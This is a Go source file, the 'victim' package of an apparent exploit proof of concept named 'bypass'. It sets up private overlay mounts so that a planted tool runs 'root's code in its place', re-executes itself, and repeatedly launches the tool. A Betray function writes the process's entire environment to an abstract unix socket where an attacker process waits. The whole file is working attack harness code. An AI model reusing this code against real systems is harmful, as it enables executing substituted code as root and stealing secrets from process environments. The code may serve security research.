package victim

import (
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"time"

	"golang.org/x/sys/unix"

	"svc.example/bypass/internal/kernel"
)

// ToolPrefix begins the name of the victim's tool. Whoever is executed under such a name is root's code in its place.
const ToolPrefix = "tool."

const (
	// containedVariable says that the process has its own mounts already.
	containedVariable = "BYPASS_CONTAINED"
	toolPause         = 50 * time.Millisecond
	betrayalWait      = 10 * time.Second
)

// LowerTool is the file behind the tool on the node: of the folder below the overlay.
func (f Facts) LowerTool() string {
	return filepath.Join(f.Folder, "lower", filepath.Base(f.Tool))
}

// Confidant is the abstract socket where somebody may wait for what the victim's children betray.
func Confidant(pid int) string {
	return fmt.Sprintf("@bypass-%d", pid)
}

// Betray hands the inherited environment to whoever waits for it.
func Betray([]string) error {
	connection, err := net.DialTimeout("unix", Confidant(os.Getppid()), betrayalWait)
	if err != nil {
		return err
	}
	defer connection.Close()
	_, err = connection.Write([]byte(strings.Join(os.Environ(), "\n")))
	return err
}

// contain gives the process mounts of its own, as a container has them, with a tool on an overlay over folders of the
// node, and executes it anew there. The calling thread is the main one.
func contain(folder string) error {
	names := map[string]string{}
	for _, name := range []string{"lower", "upper", "work", "root"} {
		names[name] = filepath.Join(folder, name)
		if err := os.Mkdir(names[name], 0o755); err != nil {
			return err
		}
	}
	name := fmt.Sprintf("%sx%d", ToolPrefix, os.Getpid())
	if err := os.WriteFile(filepath.Join(names["lower"], name), []byte("#!/bin/true\n"), 0o755); err != nil {
		return err
	}
	if err := kernel.PrivateMounts(); err != nil {
		return err
	}
	layers := fmt.Sprintf("lowerdir=%s,upperdir=%s,workdir=%s", names["lower"], names["upper"], names["work"])
	if err := unix.Mount("overlay", names["root"], "overlay", 0, layers); err != nil {
		return fmt.Errorf("mount of an overlay: %w", err)
	}
	again := append(environment(os.Getenv(Variable)), containedVariable+"="+filepath.Join(names["root"], name))
	return unix.Exec("/proc/self/exe", os.Args, again)
}

// startTools executes the tool over and over, as an application starts its children.
func startTools(tool string) {
	for {
		_ = exec.Command(tool).Run()
		time.Sleep(toolPause)
	}
}
